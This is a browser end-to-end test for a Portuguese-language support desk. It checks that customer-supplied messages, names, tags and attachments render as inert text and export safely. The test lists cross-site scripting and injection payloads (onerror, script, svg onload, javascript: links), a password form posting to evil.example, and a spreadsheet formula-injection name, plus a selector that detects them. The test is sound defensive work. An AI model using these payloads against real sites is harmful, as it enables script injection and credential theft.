import { readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { askAs } from '#tests/journeys/ask-as.ts'
import { bubble, log } from '#tests/journeys/conversation-page.ts'
import { fieldOf, signOff } from '#tests/journeys/desk.ts'
import { openPage, signIn } from '#tests/journeys/people.ts'
import { openStage } from '#tests/journeys/stage.ts'

const { server, browser } = await openStage()

let attempt = 0
const evil = '<img src=x onerror=pwned()>'
const texts = [
  `${evil} a`,
  '<script>pwned()</script> b',
  '<scr<script>ipt>pwned()</scr</script>ipt> c',
  '"><svg/onload=pwned()> d',
  '<form action=//evil.example><input name=senha></form> e',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe> f',
  '[clique](javascript:pwned()) g',
  'javascript:pwned() JaVaScRiPt:pwned() vbscript:x h',
  'data:text/html,<script>pwned()</script> i',
  '![x](x"onerror="pwned()) j',
  'https://loja.example/"onmouseover="pwned() k',
  '{{constructor.constructor("pwned()")()}} ${pwned()} l',
]

/** Returns elements of the page that only injected markup could have created. */
const planted = (page: Page) =>
  page.evaluate(`[...document.querySelectorAll('[onerror],[onload],[onmouseover],form[action*="evil"],iframe[srcdoc],img[src="x"],'
    + 'input[name=senha],a[href^="javascript" i],a[href^="data" i],a[href^="vbscript" i]')].map((one) => one.outerHTML)`)

test('whatever strangers write or are called is text on every screen, and runs nothing', async () => {
  const { page, complaints } = await openPage(browser, { acceptDownloads: true })
  await page.addInitScript('window.ran = 0; window.pwned = () => { window.ran += 1 }')
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const foreign: string[] = []
  page.on('request', (request) => {
    if (/^https?:/.test(request.url()) && !request.url().startsWith(server.url)) foreign.push(request.url())
  })
  const isClean = async () => {
    expect(await planted(page)).toEqual([])
    expect(await page.evaluate('window.ran')).toBe(0)
  }
  await signIn(page, server)
  attempt += 1
  const from = `55119740007${70 + attempt}`
  const name = `=1+${attempt} ${evil}`
  for (const text of texts) await server.control.sendAsCustomer({ from, name, text })
  await server.control.sendAsCustomer({
    from,
    media: {
      type: 'document',
      base64: Buffer.from('<script>pwned()</script>').toString('base64'),
      mimeType: 'text/html',
      fileName: `${evil}.html`,
    },
  })
  await page.getByRole('tab', { name: /Aguardando/ }).click()
  const card = page.locator('[data-ticket]').filter({ hasText: name }).first()
  await card.waitFor()
  await isClean()
  await page.getByRole('button', { name: 'Notificações' }).first().click()
  await page.keyboard.press('Escape')
  await page
    .getByRole('button', { name: new RegExp(`^=1\\+${attempt} `) })
    .first()
    .click()
  await page.getByRole('button', { name: 'Aceitar', exact: true }).last().click()
  await fieldOf(page).waitFor()
  await signOff(page)
  await log(page)
    .getByRole('link', { name: new RegExp('onerror=pwned.*html') })
    .first()
    .waitFor()
  for (const text of texts.slice(-4)) await bubble(page, text).first().waitFor()
  expect(
    await bubble(page, texts[10] ?? '')
      .first()
      .getByRole('link')
      .getAttribute('href'),
  ).toBe('https://loja.example/')
  await isClean()

  await fieldOf(page).fill(texts[1] ?? '')
  await fieldOf(page).press('Enter')
  await expect.poll(() => bubble(page, texts[1] ?? '').count()).toBeGreaterThan(0)
  await page.getByRole('button', { name: 'Dados do contato' }).first().click()
  const ticket = (await askAs(
    page,
    'GET',
    `/tickets/u/${new URL(page.url()).pathname.split('/').at(-1)}`,
  )) as {
    contactId: number
  }
  const tag = `${evil} ${Date.now()}`
  const made = (await askAs(page, 'POST', '/tags', { name: tag, color: '#b78103' })) as { id: number }
  await askAs(page, 'POST', '/tags/sync', { contactId: ticket.contactId, tags: [made.id] })
  await page.getByText(tag).first().waitFor()
  await isClean()

  for (const path of ['/contacts', '/tags']) {
    await page.goto(server.url + path)
    await page.getByText(evil).first().waitFor()
    await isClean()
  }
  await page.goto(`${server.url}/contacts`)
  await page.getByText(evil).first().waitFor()
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Exportar' }).click(),
  ])
  const sheet = readFileSync(await file.path(), 'utf8')
  expect(sheet).toContain(`'${name}`)
  expect(sheet).not.toMatch(/(^|[;\n])=1\+/)
  expect(dialogs).toEqual([])
  expect(foreign).toEqual([])
  expect(complaints).toEqual([])
})
